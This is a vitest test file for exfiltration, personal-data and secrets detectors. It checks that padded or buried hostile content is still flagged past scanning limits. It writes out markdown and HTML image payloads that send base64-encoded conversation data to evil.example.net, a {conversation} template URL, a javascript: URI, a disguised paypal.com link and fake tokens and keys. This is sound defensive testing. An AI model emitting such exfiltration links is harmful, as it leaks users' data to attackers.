// No bound of a detector lets something pass in silence: what stands beyond it is seen all the same, or it is said.
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { exfiltrationDetector } from "../../../src/decide/detect/exfiltration/exfiltration.ts";
import { piiDetector } from "../../../src/decide/detect/pii/pii.ts";
import { secretsDetector } from "../../../src/decide/detect/secrets/secrets.ts";
import { MAX_LINKS_PER_SCAN, MAX_PHONE_PARSES } from "../../../src/platform/limits.ts";
import { GOLDEN_CONTEXT } from "./golden.ts";
import { secretSample, seeded } from "./secret-samples.ts";

const CONTEXT = { ...GOLDEN_CONTEXT, hosts: ["example.com"] };
const CARGO = btoa("the customer said that her password is swordfish");
const LEAK = `https://evil.example.net/p.png?d=${CARGO}`;
const links = (text: string) => exfiltrationDetector.scan(text, CONTEXT);
const strongest = (text: string, type: string) =>
	Math.max(0, ...links(text).flatMap((hit) => (hit.type === `exfiltration.${type}` ? [hit.score] : [])));

describe("links", () => {
	const own = "https://example.com/i ".repeat(MAX_LINKS_PER_SCAN + 100);

	it("more links than are judged are said, so that a policy can refuse", () => {
		expect(links(own)).toContainEqual({ type: "limit.signals_truncated", score: 1000, evidence: "limit" });
		expect(links("https://example.com/i ".repeat(MAX_LINKS_PER_SCAN)).map((hit) => hit.type)).not.toContain(
			"limit.signals_truncated",
		);
	});

	it.each([
		["an image", `![x](${LEAK})`, "markdown_image"],
		["a script", "[x](javascript:alert(1))", "javascript_uri"],
		["a link", `[x](${LEAK})`, "encoded_query"],
	])("%s behind too many plain ones is judged", (_, text, type) => {
		expect(strongest(own + text, type)).toBeGreaterThanOrEqual(700);
	});

	it.each([
		["label", `![${"a".repeat(5000)}](${LEAK})`],
		["space before the target", `![x](${" ".repeat(100)}${LEAK})`],
		["target", `![x](${LEAK}${CARGO.repeat(100)})`],
		["number of parameters", `![x](https://evil.example.net/?${"a=1&".repeat(200)}d=${CARGO})`],
		["depth of path", `![x](https://evil.example.net/${"a/".repeat(200)}${CARGO})`],
		["host", `![x](https://${"%65".repeat(200)}.example.net/?d=${CARGO})`],
		["name of a reference", `![${"a".repeat(900)}]\n\n[${"a".repeat(900)}]: ${LEAK}`],
		["definition over two lines", `![x][r]\n\n[r]:\n  ${LEAK}`],
	])("a long %s hides no image", (_, text) => {
		expect(strongest(text, "markdown_image")).toBeGreaterThanOrEqual(700);
	});

	it.each([
		["attribute before", `<img alt="${"a".repeat(10_000)}" src="${LEAK}">`],
		["value", `<img src="${LEAK}${CARGO.repeat(100)}">`],
	])("a long %s hides no resource", (_, text) => {
		expect(strongest(text, "html_image")).toBeGreaterThanOrEqual(700);
	});

	it("a place to fill in counts however late it stands", () => {
		expect(strongest(`![x](https://evil.example.net/?p=${"a".repeat(3000)}&d={conversation})`, "template_url")).toBeGreaterThan(
			700,
		);
		const plain = links(`https://evil.example.net/?p=${"a".repeat(3000)}&d={conversation}`);
		expect(plain.map((hit) => hit.type)).toContain("exfiltration.template_url");
	});

	it("a long label hides no mismatch", () => {
		expect(
			strongest(`<a href="https://evil.example.net/">${" ".repeat(2000)}<b>paypal.com</b></a>`, "markdown_link_mismatch"),
		).toBe(820);
	});
});

describe("personal data", () => {
	const scan = (text: string) => piiDetector.scan(text, CONTEXT);

	it.each(["(415) 867-5309", "+1 415 867 5309", "call 415-867-5309"])(
		"%s behind too many numbers to check still counts",
		(number) => {
			const many = Array.from({ length: MAX_PHONE_PARSES + 10 }, (_, n) => `(212) 555-${String(1000 + n)}`).join("\n");
			const text = `${many}\nand ${number}`;
			expect(scan(text).find((hit) => hit.end === text.length)?.score).toBeGreaterThanOrEqual(700);
		},
	);

	it("an address with too long a name counts as far as a name can reach", () => {
		const text = `${"a".repeat(100)}@example.com`;
		expect(scan(text)).toMatchObject([{ type: "pii.email", start: 36, end: text.length }]);
	});
});

describe("secrets", () => {
	const scan = (text: string) => secretsDetector.scan(text, CONTEXT);
	const segment = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");

	it("a web token of any length is one hit, to its end", () => {
		const token = `${segment({ alg: "HS256" })}.${segment({ groups: "g".repeat(9000) })}.${"s1".repeat(900)}`;
		expect(scan(token)).toMatchObject([{ type: "secret.jwt", start: 0, end: token.length }]);
	});

	it("a bearer token of any length is one hit, to its end", () => {
		const value = Array.from({ length: 90 }, (_, n) => createHash("sha256").update(String(n)).digest("base64url")).join("");
		const [hit] = scan(`Authorization: Bearer ${value}`);
		expect(hit).toMatchObject({ type: "secret.bearer_token", end: 22 + value.length });
	});

	it("a key block without an end is cut out as far as it goes", () => {
		const lines = `${"MIIEpAIBAAKCAQEA7b9Zq3".repeat(3)}\n`.repeat(800);
		const text = `-----${"BEGIN"} RSA PRIVATE KEY-----\n${lines}`;
		expect(scan(text)[0]?.end).toBe(text.length - 1);
	});

	it("a token longer than its kind allows is one hit", () => {
		const { text } = secretSample("secret.github_fine_grained_token", seeded(3));
		const [hit] = scan(`${text}${"a1B2".repeat(50)} end`);
		expect(hit?.score).toBeGreaterThanOrEqual(700);
		expect(hit?.end).toBe(text.length + 200);
	});
});
